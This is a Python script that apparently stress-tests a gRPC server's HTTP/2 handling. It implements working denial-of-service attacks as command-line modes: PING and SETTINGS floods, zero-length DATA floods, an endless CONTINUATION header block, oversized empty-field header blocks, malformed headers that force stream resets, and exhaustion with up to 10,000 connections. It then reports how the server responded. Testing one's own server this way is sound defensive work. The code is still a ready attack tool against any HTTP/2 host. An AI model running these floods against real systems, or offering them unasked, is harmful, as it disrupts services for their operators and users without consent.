"""Hostile HTTP/2 clients against a gRPC server: one attack, as fast as this process can make
it, for a while.

Modes:
  ping_flood           PING frames, the server's replies read and thrown away
  settings_flood       SETTINGS frames (INITIAL_WINDOW_SIZE toggling); the server's never ACKed
  empty_data           100 open calls, then zero-length DATA frames on them, never END_STREAM
  continuation         one HEADERS without END_HEADERS, then CONTINUATION frames of 8 bytes of
                       an endless header block, never END_HEADERS
  zero_length_headers  calls whose 64 KiB header block is empty-name, empty-value literals
  server_reset         calls the server must reset itself (an upper-case header name, or no
                       :path), each on a new stream
  connections          as many TCP connections as it can open (up to 10,000), each with the
                       HTTP/2 preface and SETTINGS, held for the duration, then closed

h2 makes each connection's preface and SETTINGS; the attacks are raw frames, in batches, on a
non-blocking socket that is read whenever it is readable, so the attacker never stalls on a
server that answers. A connection the server closes (GOAWAY, reset) is replaced by a new one.

Usage: hostile.py HOST PORT SECONDS MODE
Prints "ATTACK mode=<mode> connections=<n> failed=<n> frames=<n> ..." when done: the
connections opened and those that could not be, the frames written in full, then what the
server sent back: rst=<error code>:<count>,... of its RST_STREAMs, replies=<its HEADERS>,
goaway=<error code>:<count>,... and closes=<how each connection ended>:<count>,...
"""

import collections
import functools
import resource
import select
import selectors
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import hpack

from raw_h2 import ACK, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS, connect, frame

CONTINUATION = 0x9
INITIAL_WINDOW_SIZE = 0x4
MAX_CONNECTIONS = 10_000
# A frame's header: its length (24 bits, as 8 + 16), type, flags and stream.
frame_header = struct.Struct(">BHBBI")
# A run of SETTINGS ACKs, which a SETTINGS flood has the server send back and is read past in
# one step rather than frame by frame.
ACKS = frame(SETTINGS, ACK, 0) * 1024

host, port, seconds, mode = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]

pseudo = [(":method", "POST"), (":scheme", "http"), (":path", "/Greeter/say_hello"), (":authority", f"{host}:{port}")]
grpc = [("content-type", "application/grpc"), ("te", "trailers")]


def block(headers):
    """A header block of never-indexed literals, which leave the dynamic table alone, so one
    block serves every stream."""
    return bytes(hpack.Encoder().encode([(k, v, True) for k, v in headers], huffman=True))


def integer(value, prefix_bits, first=0):
    """An HPACK integer (RFC 7541 5.1) whose first byte starts with the bits of `first`."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def literal(name, value):
    """A literal field without indexing, with a new name (RFC 7541 6.2.2), not Huffman-coded."""
    return b"\0" + integer(len(name), 7) + name + integer(len(value), 7) + value


def frames_on_streams(kind, flags, payloads, streams):
    """Frames of one kind, the i-th carrying payloads[i % len(payloads)] on streams[i]."""
    heads = [frame(kind, flags, 0, p)[:5] for p in payloads]
    return b"".join(
        heads[i % len(heads)] + struct.pack(">I", s) + payloads[i % len(payloads)] for i, s in enumerate(streams)
    )


class Link:
    """One attacking connection: a non-blocking socket, the batch still being sent, and what
    the server sent back."""

    def __init__(self, answers):
        self.sock, _ = connect(host, port)
        self.out, self.out_frames, self.control = memoryview(b""), 0, []
        self.pending, self.settings, self.ended, self.closed = b"", 0, set(), None
        self.next_stream, self.calls, self.continued = 1, [], None
        self.answers = False
        if answers != "nothing":
            self.settle()
        self.answers = answers == "everything"
        self.sock.setblocking(False)

    def settle(self):
        """Waits for the server's SETTINGS and acknowledges them, before any attack."""
        self.sock.settimeout(2)
        while not self.settings:
            data = self.sock.recv(1 << 16)
            if not data:
                raise ConnectionResetError("closed before its SETTINGS")
            self.pending += data
            self.frames()
        self.sock.sendall(frame(SETTINGS, ACK, 0))

    def stream(self):
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        return stream

    def pump(self):
        """Sends what it can of the batch, reads what the server sent; returns the frames of a
        batch that has just been sent in full."""
        wanted = [self.sock] if self.out else []
        try:
            readable, writable, _ = select.select([self.sock], wanted, [], 0.05)
            if readable:
                self.read()
            if writable:
                self.out = self.out[self.sock.send(self.out) :]
                if not self.out:
                    return self.out_frames
        except OSError as e:
            self.closed = type(e).__name__
        return 0

    def read(self):
        """Reads one buffer's worth of what the server sent."""
        try:
            data = self.sock.recv(1 << 18)
        except BlockingIOError:
            return
        if not data:
            self.closed = self.closed or "closed"
            return
        self.pending += data
        self.frames()

    def frames(self):
        """Handles the whole frames received; the parts of a frame wait for the rest."""
        pending, at, end = self.pending, 0, len(self.pending)
        while end - at >= 9:
            if pending.startswith(ACKS, at):
                at += len(ACKS)
                seen[SETTINGS] += len(ACKS) // 9
                continue
            high, low, kind, flags, stream = frame_header.unpack_from(pending, at)
            after = at + 9 + (high << 16 | low)
            if after > end:
                break
            seen[kind] += 1
            if kind in (SETTINGS, PING, RST_STREAM, HEADERS, GOAWAY):
                self.handle(kind, flags, stream & 0x7FFFFFFF, pending[at + 9 : after])
            at = after
        self.pending = pending[at:]

    def handle(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            self.settings += 1
            if self.answers:
                self.control.append(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK and self.answers:
            self.control.append(frame(PING, ACK, 0, payload))
        elif kind == RST_STREAM:
            self.ended.add(stream)
            resets[int.from_bytes(payload[:4], "big")] += 1
        elif kind == HEADERS and flags & END_STREAM:
            self.ended.add(stream)
        elif kind == GOAWAY:
            goaways[int.from_bytes(payload[4:8], "big")] += 1
            self.closed = "goaway"

    def send(self, batch, frames):
        """Queues a batch of `frames` frames, after the control frames owed to the server."""
        self.out = memoryview(b"".join(self.control) + batch)
        self.control = []
        self.out_frames = frames


def ping_flood(link):
    return frame(PING, 0, 0, b"hostile!") * 1000, 1000


def settings_flood(link):
    toggle = [frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, size)) for size in (65535, 65536)]
    return b"".join(toggle) * 500, 1000


OPEN_CALLS = 100
call = block(pseudo + grpc)


def empty_data(link):
    """Opens OPEN_CALLS calls (again when the server ends one), then sends zero-length DATA
    frames round the open ones."""
    link.calls = [s for s in link.calls if s not in link.ended]
    opened = [link.stream() for _ in range(OPEN_CALLS - len(link.calls))]
    calls = link.calls = link.calls + opened
    batch = b"".join(frame(HEADERS, END_HEADERS, s, call) for s in opened)
    empties = b"".join(frame(DATA, 0, s, b"") for s in calls)
    rounds = max(1, 1000 // len(calls))
    return batch + empties * rounds, len(opened) + len(calls) * rounds


CHUNK = 8
# Header fields of 1014 bytes; 8 of them are a whole number of CHUNKs, so the batches follow
# each other seamlessly in one endless, well-formed header block.
endless = literal(b"x-hostile", b"a" * 1000) * CHUNK
pieces = [endless[i : i + CHUNK] for i in range(0, len(endless), CHUNK)]


@functools.cache
def continued(stream):
    """The CONTINUATION frames of `endless`, on `stream`."""
    return frames_on_streams(CONTINUATION, 0, pieces, [stream] * len(pieces))


def continuation(link):
    first = b""
    if link.continued is None:
        link.continued = link.stream()
        first = frame(HEADERS, 0, link.continued, call)
    return first + continued(link.continued), len(pieces) + (1 if first else 0)


MAX_FRAME = 16384
empty_field = literal(b"", b"")
head = call + empty_field * ((MAX_FRAME - len(call)) // len(empty_field))
more = empty_field * (MAX_FRAME // len(empty_field))


def zero_length_headers(link):
    """Calls whose header block is a HEADERS and three CONTINUATIONs, 64 KiB in all, nearly all
    of it empty fields (after valid gRPC headers)."""
    batch = []
    for _ in range(20):
        s = link.stream()
        batch.append(frame(HEADERS, END_STREAM, s, head))
        batch.append(frame(CONTINUATION, 0, s, more) + frame(CONTINUATION, 0, s, more))
        batch.append(frame(CONTINUATION, END_HEADERS, s, more))
    return b"".join(batch), 80


malformed = [
    block(pseudo + [("x-Bad-Name", "1")] + grpc),
    block([h for h in pseudo if h[0] != ":path"] + grpc),
]


def server_reset(link):
    batch = frames_on_streams(HEADERS, END_HEADERS | END_STREAM, malformed, [link.stream() for _ in range(500)])
    return batch, 500


# What each attack answers: the server's first SETTINGS only, so that nothing comes between
# CONTINUATION frames; nothing at all; or, as a client should, every SETTINGS and PING.
answers = collections.defaultdict(lambda: "everything", {continuation: "first SETTINGS", settings_flood: "nothing"})


def flood(attack):
    """Runs `attack` on a connection, and on a new one each time the server closes it;
    returns the connections it opened and the frames it sent."""
    connections = frames = failed = 0
    deadline = time.monotonic() + seconds
    link = None
    while time.monotonic() < deadline:
        if link is None or link.closed:
            if link is not None:
                closes[link.closed] += 1
                link.sock.close()
            try:
                link = Link(answers[attack])
            except OSError:
                failed += 1
                link = None
                time.sleep(0.01)
                continue
            connections += 1
        if not link.out:
            link.send(*attack(link))
        frames += link.pump()
    if link is not None:
        link.sock.close()
    return f"connections={connections} failed={failed} frames={frames}"


def connections():
    """Opens connections until MAX_CONNECTIONS or half the time is up, holds them (reading
    whatever the server sends) to the end, then closes them all."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    h2conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    h2conn.initiate_connection()
    preface = h2conn.data_to_send()
    started = time.monotonic()
    deadline = started + seconds
    held, failed = selectors.DefaultSelector(), 0
    while len(held.get_map()) < MAX_CONNECTIONS and time.monotonic() < started + seconds / 2:
        try:
            sock = socket.create_connection((host, port), timeout=0.5)
            sock.sendall(preface)
            sock.setblocking(False)
            held.register(sock, selectors.EVENT_READ)
        except OSError as e:
            failed += 1
            errors[type(e).__name__] += 1
    opened = len(held.get_map())
    opening = time.monotonic() - started
    closed_by_server = 0
    while time.monotonic() < deadline:
        for key, _ in held.select(timeout=max(0.0, deadline - time.monotonic())):
            try:
                data = key.fileobj.recv(1 << 16)
            except OSError:
                data = b""
            if not data:
                closed_by_server += 1
                held.unregister(key.fileobj)
                key.fileobj.close()
    for key in list(held.get_map().values()):
        key.fileobj.close()
    held.close()
    return (
        f"connections={opened} failed={failed} opening={opening:.1f}s closed_by_server={closed_by_server} "
        f"nofile={soft}->{hard}"
    )


def counts(counter):
    return ",".join(f"{k}:{v}" for k, v in sorted(counter.items(), key=str)) or "none"


seen, resets, goaways, closes, errors = (collections.Counter() for _ in range(5))
attacks = {
    "ping_flood": ping_flood,
    "settings_flood": settings_flood,
    "empty_data": empty_data,
    "continuation": continuation,
    "zero_length_headers": zero_length_headers,
    "server_reset": server_reset,
}
started = time.monotonic()
if mode == "connections":
    report = connections()
else:
    report = flood(attacks[mode])
elapsed = time.monotonic() - started
print(
    f"ATTACK mode={mode} {report} seconds={elapsed:.1f} rst={counts(resets)} "
    f"replies={seen[HEADERS]} goaway={counts(goaways)} closes={counts(closes)} errors={counts(errors)}",
    flush=True,
)
